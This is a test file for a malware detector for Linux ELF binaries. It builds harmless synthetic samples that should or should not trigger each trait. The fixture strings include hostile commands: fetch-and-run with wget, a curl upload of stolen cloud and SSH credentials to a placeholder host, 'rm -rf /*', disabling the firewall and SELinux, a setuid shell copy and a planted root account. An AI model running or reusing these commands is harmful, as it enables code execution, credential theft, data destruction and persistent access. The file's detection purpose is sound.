// Each detector of Linux programs on harmless files that show its trait, and on files that nearly do.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { analyzeFile } from '../../../src/file/analyze.ts'
import { elfDetectors } from '../../../src/file/detectors/elf/registry.ts'
import { buildElf, type ElfRecipe } from './build-elf.ts'

interface Trait {
  readonly hits: Readonly<Record<string, ElfRecipe>>
  readonly misses: Readonly<Record<string, ElfRecipe>>
}

const texts = (...strings: readonly string[]): ElfRecipe => ({ strings })
const noise = (bytes: number): Uint8Array => {
  const out = new Uint8Array(bytes)
  let state = 1
  for (let at = 0; at < bytes; at += 1) {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
    out[at] = state >>> 24
  }
  return out
}
const module = { name: '.modinfo', data: Buffer.from('license=GPL\0') }

const TRAITS: Readonly<Record<string, Trait>> = {
  elf_packed: {
    hits: { 'no section table, all noise': { withoutSections: true, sections: [{ name: 'x', data: noise(20_000) }] } },
    misses: { 'noise with a section table': { sections: [{ name: 'x', data: noise(20_000) }] } },
  },
  elf_writable_code_segment: {
    hits: { 'read, write, execute': { loadFlags: 7 } },
    misses: { 'read, execute': { loadFlags: 5 } },
  },
  elf_botnet: {
    hits: {
      'floods, passwords, busybox': texts(
        'udpflood',
        'synflood',
        'vizxv',
        'xc3511',
        'juantech',
        '/bin/busybox',
        '/dev/watchdog',
      ),
    },
    misses: { 'a router with a watchdog': texts('/bin/busybox', '/dev/watchdog', 'tftp -g') },
  },
  elf_floods: { hits: { 'two floods': texts('udpflood', 'httpflood') }, misses: { 'one word': texts('syn flood') } },
  elf_mines_cryptocurrency: {
    hits: { 'speaks to a pool': texts('stratum+tcp://pool.example', 'cryptonight', 'donate-level') },
    misses: { 'names an algorithm': texts('cryptonight', 'hugepages') },
  },
  elf_preload_rootkit: {
    hits: {
      'hands on what it does not hide': { imports: ['dlsym'], exports: ['readdir', 'readdir64'] },
      'hides files': { ...texts('/etc/ld.so.preload'), imports: ['dlsym'], exports: ['readdir', 'fopen', 'unlink'] },
    },
    misses: {
      'pretends owners, and lists folders too': {
        imports: ['dlsym'],
        exports: ['readdir', 'fopen', 'chown', 'getuid'],
      },
      'wraps what is not listed': { imports: ['dlsym'], exports: ['open', 'fopen', 'unlink'] },
    },
  },
  elf_kernel_rootkit: {
    hits: {
      'hooks and hides': { type: 1, sections: [module], strings: ['sys_call_table', 'hide_pid'] },
      'gives root': {
        type: 1,
        sections: [module],
        imports: ['commit_creds', 'prepare_kernel_cred', 'kallsyms_lookup_name'],
        strings: ['ia32_sys_call_table'],
      },
    },
    misses: { traces: { type: 1, sections: [module], strings: ['kallsyms_lookup_name'] } },
  },
  elf_downloads_and_runs: {
    hits: { 'wget and chmod': texts('wget http://192.0.2.1/a -O /tmp/a; chmod 777 /tmp/a; /tmp/a') },
    misses: { 'wget alone': texts('wget http://example.com/') },
  },
  elf_makes_itself_permanent: {
    hits: { 'cron and a hidden path': texts('/etc/cron.d/x', '/etc/rc.local', '/tmp/.x') },
    misses: { 'cron alone': texts('/etc/cron.d/x', '/etc/crontab') },
  },
  elf_wipes_traces: {
    hits: { 'three places': texts('history -c', '/var/log/wtmp', 'HISTFILE=/dev/null') },
    misses: { 'a login program': texts('/var/log/wtmp', '/var/run/utmp') },
  },
  elf_turns_defences_off: {
    hits: { 'firewall and access control': texts('iptables -F', 'setenforce 0') },
    misses: { 'lists the rules': texts('iptables -L', 'getenforce') },
  },
  elf_kills_rivals: {
    hits: { 'two of them': texts('pkill -f xmr', 'kdevtmpfsi') },
    misses: { 'an ordinary kill': texts('killall -HUP sshd') },
  },
  elf_runs_from_memory: {
    hits: { 'a file in memory': { imports: ['memfd_create', 'fexecve'] } },
    misses: { 'shares memory': { imports: ['memfd_create', 'mmap'] } },
  },
  elf_searches_writable_paths: {
    hits: {
      'a temporary folder': { needed: ['liba.so'], runpath: '/tmp/lib' },
      'wherever it is started': { needed: ['liba.so'], runpath: '.' },
    },
    misses: {
      'beside itself': { needed: ['liba.so'], runpath: '$ORIGIN/../lib' },
      'a fixed folder': { needed: ['liba.so'], runpath: '/opt/a' },
    },
  },
  elf_small_shell_connector: {
    hits: { 'connects a shell': { imports: ['socket', 'connect', 'dup2', 'execve'], strings: ['/bin/sh'] } },
    misses: { connects: { imports: ['socket', 'connect', 'read', 'write'], strings: ['/bin/sh'] } },
  },
  elf_taps_passwords: {
    hits: {
      'hears what a terminal reads and sends it': {
        type: 3,
        exports: ['read', 'write'],
        imports: ['dlsym', 'socket', 'sendto'],
        strings: ['assword:'],
      },
      'a module that keeps a list': {
        type: 3,
        exports: ['pam_sm_authenticate', 'pam_sm_setcred'],
        imports: ['pam_get_authtok', 'fopen', 'fprintf', 'strcmp'],
        strings: ['/var/tmp/.cache', '%s:%s'],
      },
    },
    misses: {
      'a wrapper of sockets': {
        type: 3,
        exports: ['read', 'write', 'socket', 'connect', 'sendto'],
        imports: ['dlsym', 'socket', 'sendto'],
        strings: ['password:'],
      },
      'a module that compares with what is stored': {
        type: 3,
        exports: ['pam_sm_authenticate'],
        imports: ['pam_get_authtok', 'crypt', 'fopen'],
        strings: ['%s:%s'],
      },
    },
  },
  elf_kernel_backdoor: {
    hits: {
      'starts a shell for a packet': {
        type: 1,
        sections: [module],
        imports: ['nf_register_net_hook', 'call_usermodehelper'],
        strings: ['/bin/bash', '-c'],
      },
      'writes keys to a file': {
        type: 1,
        sections: [module],
        imports: ['register_keyboard_notifier', 'filp_open', 'kernel_write'],
      },
    },
    misses: {
      'starts a helper of the system': {
        type: 1,
        sections: [module],
        imports: ['register_kprobe', 'call_usermodehelper'],
        strings: ['/sbin/poweroff'],
      },
      'speaks the keys': { type: 1, sections: [module], imports: ['register_keyboard_notifier'] },
    },
  },
  elf_wipes_disks: {
    hits: {
      'every name of a disk, and everything deleted': texts(
        '/dev/sda',
        '/dev/vda',
        '/dev/nvme0n1',
        'rm -rf /* 2>/dev/null',
      ),
      'few functions, and a restart': {
        ...texts('/dev/sda', '/dev/mtd0', '/dev/mmcblk0'),
        imports: ['open', 'write', 'reboot'],
      },
    },
    misses: {
      'lists disks': texts('/dev/sda', '/dev/vda', '/dev/nvme0n1'),
      'a tool for any folder': texts('--no-preserve-root', 'rm -rf'),
    },
  },
  elf_ransomware: {
    hits: {
      'a note, and files replaced': {
        ...texts('All your files are encrypted', 'use tor browser', 'http://a.onion/'),
        imports: ['readdir64', 'rename'],
      },
      'a note, and machines stopped': texts('files were encrypted', 'bitcoin', 'esxcli vm process kill', '.vmdk'),
    },
    misses: {
      'a manual': texts('All your files are encrypted', 'bitcoin'),
      'both words, far apart': {
        ...texts('files were encrypted', '.'.repeat(9000), 'address.onion'),
        imports: ['readdir64', 'rename'],
      },
      'a manager of machines': { ...texts('vim-cmd vmsvc/getallvms'), imports: ['readdir', 'rename'] },
    },
  },
  elf_logs_keystrokes: {
    hits: {
      'reads keys and connects': {
        ...texts('/dev/input/event0', '[ENTER]', '[ESC]', '[TAB]'),
        imports: ['socket', 'connect', 'getaddrinfo'],
      },
    },
    misses: {
      'a daemon for keys': {
        ...texts('/dev/input/event0', 'KEY_ENTER', 'KEY_ESC', 'KEY_TAB'),
        imports: ['socket', 'connect', 'getaddrinfo'],
      },
    },
  },
  elf_opens_hidden_shell: {
    hits: {
      'opens the firewall and keeps no history': {
        ...texts('iptables -t nat -A PREROUTING -p tcp -s %s', 'HISTFILE', '/bin/sh'),
        imports: ['socket', 'setsockopt', 'forkpty', 'execl'],
      },
    },
    misses: {
      'a server of terminals': { ...texts('/bin/sh'), imports: ['socket', 'setsockopt', 'forkpty', 'execl'] },
      'a manager of firewalls': {
        ...texts('iptables -t nat -A PREROUTING -j DNAT'),
        imports: ['socket', 'setsockopt', 'execl', 'dup2'],
      },
    },
  },
  elf_poses_as_system_process: {
    hits: {
      'takes a name and runs from memory': { ...texts('kworker/u8:3'), imports: ['memfd_create', 'prctl', 'fexecve'] },
    },
    misses: {
      'a monitor that filters': { ...texts('kworker/%d:%d', 'kworker'), imports: ['prctl', 'execve'] },
      'a monitor that starts nothing': { ...texts('[kthreadd]'), imports: ['prctl', 'opendir'] },
    },
  },
  elf_steals_cloud_keys: {
    hits: {
      'four places and an upload': texts(
        '/root/.aws/credentials',
        '/root/.kube/config',
        '/root/.docker/config.json',
        '/root/.ssh/id_rsa',
        "curl -s -F 'f=@/tmp/.c' http://203.0.113.9/",
      ),
    },
    misses: {
      'a scanner for keys': texts('.aws/credentials', '.kube/config', '.docker/config.json', '.ssh/id_rsa'),
    },
  },
  elf_spreads_by_passwords: {
    hits: {
      'tries them and fetches': {
        ...texts('1qaz2wsx', 'P@ssw0rd', 'qwerty', 'wget http://203.0.113.9/x; chmod +x x'),
        imports: ['ssh_userauth_password'],
      },
    },
    misses: {
      'tries them': { ...texts('1qaz2wsx', 'P@ssw0rd', 'qwerty'), imports: ['ssh_userauth_password'] },
    },
  },
  elf_plants_root_account: {
    hits: { 'a line of root': texts('/etc/passwd', 'sys:$6$abcdefgh$ijklmnopqrstuvwx/y:0:0::/root:/bin/sh') },
    misses: {
      'a line of nobody': texts('/etc/passwd', 'nobody:x:65534:65534::/:/bin/false'),
      'a hash to test with': texts('/etc/passwd', '$6$abcdefgh$ijklmnopqrstuvwx/y'),
    },
  },
  elf_packer_damaged: {
    hits: {
      'noise alone': { withoutSections: true, sections: [{ name: 'x', data: noise(20_000) }] },
    },
    misses: {
      'noise with a section table': { sections: [{ name: 'x', data: noise(20_000) }] },
      'no section table, and text': {
        withoutSections: true,
        sections: [{ name: 'x', data: Buffer.alloc(9000, 'text ') }],
      },
    },
  },
  elf_steals_account_data: {
    hits: {
      'three folders, hidden and sent': {
        ...texts('~/.config/google-chrome', '~/.mozilla/firefox', '~/.electrum/wallets', '/tmp/.cache-x'),
        imports: ['connect'],
      },
    },
    misses: {
      'a backup': { ...texts('.config/google-chrome', '.mozilla/firefox', '.thunderbird'), imports: ['connect'] },
    },
  },
  elf_plants_ssh_key: {
    hits: { 'a key and the list': texts('/root/.ssh/authorized_keys', 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 a@b') },
    misses: {
      'a server of logons': texts('.ssh/authorized_keys', 'ssh-ed25519', 'ssh-rsa'),
      'a key of a server': texts('known_hosts', 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 a@b'),
    },
  },
  elf_runs_received_code: {
    hits: { 'a stager': { imports: ['socket', 'connect', 'mmap', 'recv', 'inet_addr'], strings: ['198.51.100.77'] } },
    misses: {
      'a client that allocates nothing': { imports: ['socket', 'connect', 'recv'], strings: ['198.51.100.77'] },
      'a large client': {
        imports: ['connect', 'mmap', 'recv', ...Array.from({ length: 30 }, (_, at) => `f${at}`)],
        strings: ['198.51.100.77'],
      },
    },
  },
  elf_reads_secrets_of_processes: {
    hits: {
      'enters the agent of keys': { ...texts('/proc/%s/cmdline', 'gnome-keyring-daemon'), imports: ['ptrace'] },
    },
    misses: {
      'a debugger': { ...texts('/proc/%d/maps'), imports: ['ptrace'] },
      'a list of processes': { ...texts('/proc/%s/cmdline', 'gnome-keyring-daemon'), imports: ['readdir'] },
    },
  },
  elf_plants_setuid_shell: {
    hits: { 'copies and permits': texts('cp /bin/bash /tmp/.b; chmod 6755 /tmp/.b') },
    misses: { 'an installer': texts('chmod 4755 %s/bin/helper'), 'a copy': texts('cp /bin/sh %s') },
  },
}

async function findingsOf(recipe: ElfRecipe): Promise<readonly string[]> {
  const { root } = await analyzeFile(buildElf(recipe), { fileName: 'sample', now: new Date(0) })
  assert.deepEqual(root.failures, [])
  return root.findings.map(({ id }) => id)
}

for (const [id, { hits, misses }] of Object.entries(TRAITS)) {
  for (const [name, recipe] of Object.entries(hits))
    test(`${id}: ${name}`, async () => assert.ok((await findingsOf(recipe)).includes(id)))
  for (const [name, recipe] of Object.entries(misses))
    test(`${id} not: ${name}`, async () => assert.ok(!(await findingsOf(recipe)).includes(id)))
}

test('every detector has hits and as many misses', () => {
  assert.deepEqual(elfDetectors.map(({ id }) => id).toSorted(), Object.keys(TRAITS).toSorted())
})

test('texts under one byte of XOR are marks as well', async () => {
  const hide = (text: string) => Buffer.from(text).map((byte) => byte ^ 0x22)
  const table = ['/bin/busybox', '/dev/watchdog', 'TSource Engine Query', 'vizxv', 'xc3511', 'juantech', 'botkill']
  const data = Buffer.concat(table.flatMap((text) => [hide(text), Buffer.alloc(1)]))
  const recipe = { sections: [{ name: '.data', data }] }
  assert.ok((await findingsOf(recipe)).includes('elf_botnet'))
  const { root } = await analyzeFile(buildElf(recipe), { fileName: 'sample', now: new Date(0) })
  assert.equal(root.facts.marks?.find(({ text }) => text === 'vizxv')?.key, 0x22)
})
